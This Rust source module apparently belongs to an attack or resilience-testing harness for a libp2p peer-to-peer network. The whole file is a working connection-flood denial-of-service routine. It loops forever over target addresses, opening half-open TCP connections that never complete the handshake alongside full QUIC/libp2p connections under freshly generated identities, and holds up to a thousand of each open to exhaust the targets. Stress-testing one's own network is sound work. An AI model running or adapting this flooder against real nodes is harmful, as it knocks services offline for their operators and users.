//! A flood of connections: half-open ones, which never finish the handshake, and complete ones under fresh identities.

use std::{convert::Infallible, net::Ipv4Addr, pin::Pin, task::Poll, time::Duration};

use discovery::{Identity, Multiaddr};
use libp2p::{
    Transport as _,
    core::{
        Endpoint,
        muxing::{StreamMuxer as _, StreamMuxerBox},
        transport::{DialOpts, ListenerId, PortUse},
    },
};
use tokio::{net::TcpStream, task::JoinSet, time};

use super::{
    plan::{Attack, AttackPlan, Tally},
    transport,
};

/// Connections of either kind held open; further ones are closed at once.
const HELD_MAX: usize = 1000;
/// How long one attempt may take.
const PATIENCE: Duration = Duration::from_secs(2);

/// Opens connections, one after the other, for ever.
pub async fn flood(plan: &AttackPlan, tally: &Tally) -> anyhow::Result<Infallible> {
    let mut complete: JoinSet<()> = JoinSet::new();
    let mut half_open: Vec<TcpStream> = Vec::new();
    loop {
        let mut has_opened = false;
        for target in &plan.targets {
            if let Some(muxer) = connect(target, plan.from).await? {
                tally.sent(Attack::Connections);
                has_opened = true;
                while complete.try_join_next().is_some() {}
                if complete.len() < HELD_MAX {
                    complete.spawn(hold(muxer));
                }
            } else {
                tally.count(|deeds| deeds.thrown_out += 1);
            }
            // One that stays without a handshake.
            let tcp = async { transport::connect(transport::socket_of(target)?, plan.from).await.ok() };
            if let Ok(Some(stream)) = time::timeout(PATIENCE, tcp).await {
                tally.sent(Attack::Connections);
                has_opened = true;
                half_open.push(stream);
            }
        }
        half_open.truncate(HELD_MAX);
        if !has_opened {
            // Everybody refuses: a pause keeps the loop from spinning on errors of the system.
            time::sleep(Duration::from_millis(1)).await;
        }
    }
}

/// Keeps a connection alive until the other side closes it, and sends nothing on it.
async fn hold(mut muxer: StreamMuxerBox) {
    std::future::poll_fn(|context| {
        while let Poll::Ready(stream) = Pin::new(&mut muxer).poll_inbound(context) {
            if stream.is_err() {
                return Poll::Ready(());
            }
        }
        Pin::new(&mut muxer).poll(context).map(drop)
    })
    .await;
}

/// A complete connection under a fresh identity; `None` when it is refused.
async fn connect(target: &Multiaddr, from: Ipv4Addr) -> anyhow::Result<Option<StreamMuxerBox>> {
    let keypair = Identity::generate()?.keypair()?;
    let Ok(mut transport) = transport::build(&keypair, from) else { return Ok(None) };
    // It is dialled from where it listens.
    for place in transport::places(from) {
        if transport.listen_on(ListenerId::next(), place).is_err() {
            return Ok(None);
        }
    }
    let options = DialOpts { role: Endpoint::Dialer, port_use: PortUse::Reuse };
    let Ok(dial) = transport.dial(target.clone(), options) else { return Ok(None) };
    // The transport must be driven while it dials; QUIC does not get anywhere otherwise.
    let driven = async {
        let mut dial = std::pin::pin!(dial);
        let mut transport = std::pin::pin!(transport);
        std::future::poll_fn(|context| {
            while transport.as_mut().poll(context).is_ready() {}
            dial.as_mut().poll(context)
        })
        .await
    };
    Ok(time::timeout(PATIENCE, driven).await.ok().and_then(Result::ok).map(|(_, muxer)| muxer))
}
